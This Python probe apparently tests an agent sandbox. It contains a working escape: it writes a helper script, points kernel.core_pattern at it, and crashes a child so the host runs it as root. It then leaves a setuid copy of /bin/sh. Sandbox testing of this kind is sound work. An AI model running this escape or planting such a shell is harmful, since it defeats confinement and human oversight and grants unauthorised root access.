"""Attack 1 of the old sandbox: host root through the kernel's core dump
helper, and a set-user-ID shell left behind.

As root, the old sandbox's agent was uid 0 on the host with /proc/sys
writable: it pointed kernel.core_pattern at a script of its work directory
and crashed a child, and the kernel ran the script as the host's root.

--marker PATH: the host path the script writes (outside the work directory,
so only a process outside the sandbox could write it).
"""

import os
import resource
import shutil
import signal
import time

from probe import arg, row

work = os.getcwd()
pwn = os.path.join(work, "pwn.sh")
seen = os.path.join(work, "pwned-seen")
with open(pwn, "w") as f:
    f.write(f"#!/bin/sh\nid > {arg('marker')}\ntouch {seen}\ncat > /dev/null\n")
os.chmod(pwn, 0o755)
written = []


def write_core_pattern():
    with open("/proc/sys/kernel/core_pattern", "w") as f:
        f.write(f"|{pwn} %p\n")
    written.append(True)


def crash():
    soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
    except OSError:
        pass
    pid = os.fork()
    if pid == 0:
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    return "core dumped" if os.WCOREDUMP(status) else "no core dump"


def helper_ran():
    # The kernel starts the helper on its own time; wait for it only if
    # the pattern could be written at all.
    deadline = time.monotonic() + (20 if written else 0)
    while time.monotonic() < deadline and not os.path.exists(seen):
        time.sleep(0.1)
    return "yes" if os.path.exists(seen) else "no"


def setuid_shell():
    shutil.copy("/bin/sh", "sh")
    os.chmod("sh", 0o4755)


row("write core_pattern", write_core_pattern)
row("crash a child", crash)
row("host helper ran", helper_ran)
row("leave a set-user-ID shell", setuid_shell)
